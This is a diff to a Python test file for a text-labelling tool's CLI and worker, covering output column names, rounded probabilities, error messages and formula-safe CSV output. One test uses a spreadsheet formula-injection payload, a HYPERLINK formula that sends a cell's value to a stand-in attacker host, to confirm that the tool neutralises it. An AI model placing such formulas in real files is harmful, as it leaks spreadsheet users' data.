@@ -9,6 +9,7 @@ import pytest
 from sqlalchemy import func, select
 
 from core import data, labels, predict
+from core.config import TrainConfig
 from core.db import LabelJob, Run, session_factory
 from core.settings import get_settings
 from core.worker import run_worker
@@ -67,17 +68,20 @@ def test_worker_labels_every_row_once_in_order_with_memory_that_does_not_grow(lo
     out = pd.read_csv(labels.output_path(settings, jobs[big]), dtype=str, keep_default_na=False, encoding="utf-8-sig")
     given = pd.read_csv(tmp_path / "big.csv", dtype=str, keep_default_na=False)
     classes = predictor.classes
-    assert list(out.columns) == ["id", "text", "note", f"run {run_id} label", f"run {run_id} probability"] + [
-        f"run {run_id} P({c})" for c in classes
+    run = f"#{run_id} LoRA · seed {TrainConfig().seed}"  # the columns name the run by its method and seed
+    assert list(out.columns) == ["id", "text", "note", f"{run} label", f"{run} probability"] + [
+        f"{run} P({c})" for c in classes
     ]
+    for column in out.columns[4:]:  # probabilities rounded: 0.9731, not 0.9731245636940002
+        assert out[column].str.fullmatch(r"[01](\.\d{1,4})?").all(), out[column].head().tolist()
     assert len(out) == 20_000 and out["id"].tolist() == given["id"].tolist()  # every row once, in order
     assert out["text"].tolist() == given["text"].tolist()
     assert out.loc[0, "note"] == "'=1+1" and out.loc[1, "note"] == "n1"  # formula-safe
     # The answers are Predict's: the first and last rows of the file.
     for rows in (slice(0, 40), slice(19_960, 20_000)):
         probs = predictor.predict_proba(given["text"][rows].tolist())
-        assert out[f"run {run_id} label"][rows].tolist() == [classes[i] for i in probs.argmax(axis=1)]
-        assert out[f"run {run_id} probability"][rows].astype(float).tolist() == pytest.approx(
+        assert out[f"{run} label"][rows].tolist() == [classes[i] for i in probs.argmax(axis=1)]
+        assert out[f"{run} probability"][rows].astype(float).tolist() == pytest.approx(
             probs.max(axis=1).tolist(), abs=1e-4
         )
     # Measured: 5,000 and 20,000 rows cost the labelling process about the same peak memory.
@@ -137,7 +141,41 @@ def test_cli_labels_a_file(lora_run, tmp_path):
     assert done.returncode == 0, done.stderr
     out = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
     assert len(out) == 50 and list(out.columns)[:3] == ["id", "text", "note"]
-    assert set(out[f"run {run_id} label"]) <= {"0", "1", "2"}
+    assert set(out[f"#{run_id} LoRA · seed {TrainConfig().seed} label"]) <= {"0", "1", "2"}
+
+
+def test_the_labelled_file_keeps_numbers_as_written_and_neutralises_a_header(lora_run, tmp_path):
+    """-3.5 is the user's value and runs nothing in a spreadsheet: kept. A header is a cell a spreadsheet runs."""
+    settings, run_id = lora_run
+    hostile = '=HYPERLINK("http://evil.example/?"&A2)'
+    rows = [(t, "-3.5", "+44 20 7946 0958") for t, _ in make_rows(6, 4)]
+    path = write_csv(tmp_path / "in.csv", rows, header=("text", hostile, "phone"))
+    out_path = tmp_path / "out.csv"
+    done = core_command(settings, "predict", "--run", str(run_id), "--file", str(path), "--out", str(out_path))
+    assert done.returncode == 0, done.stderr
+    out = pd.read_csv(out_path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert list(out.columns)[:3] == ["text", "'" + hostile, "phone"]
+    assert set(out["'" + hostile]) == {"-3.5"}
+    assert set(out["phone"]) == {"'+44 20 7946 0958"}  # not a number: a spreadsheet would read a formula
+
+
+def test_cli_names_a_missing_output_folder_or_input_file_in_one_line(lora_run, tmp_path):
+    settings, run_id = lora_run
+    file = str(texts_file(tmp_path / "in.csv", 5))
+    for args, words in [
+        (["--file", file, "--out", str(tmp_path / "missing_dir" / "out.csv")], "there is no folder"),
+        (["--file", str(tmp_path / "nofile.csv"), "--out", str(tmp_path / "out.csv")], "nofile.csv"),
+    ]:
+        done = core_command(settings, "predict", "--run", str(run_id), *args)
+        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
+        assert words in ("\n" + done.stderr).partition("\nerror: ")[2], done.stderr  # after the loading bars
+    assert not (tmp_path / "out.csv").exists()
+
+
+def test_run_names_tell_apart_runs_of_one_method_and_seed():
+    runs = [Run(id=i, method="lora", config={"seed": 42}, dataset_name="news", model_source="bundled") for i in (3, 4)]
+    assert [labels.run_name(r) for r in runs] == ["#3 LoRA · seed 42", "#4 LoRA · seed 42"]
+    assert labels.run_name(Run(id=5, method="full", config={"seed": 7})) == "#5 Full fine-tuning · seed 7"
 
 
 def test_a_label_job_whose_worker_died_is_failed_with_a_plain_reason(lora_run, tmp_path):
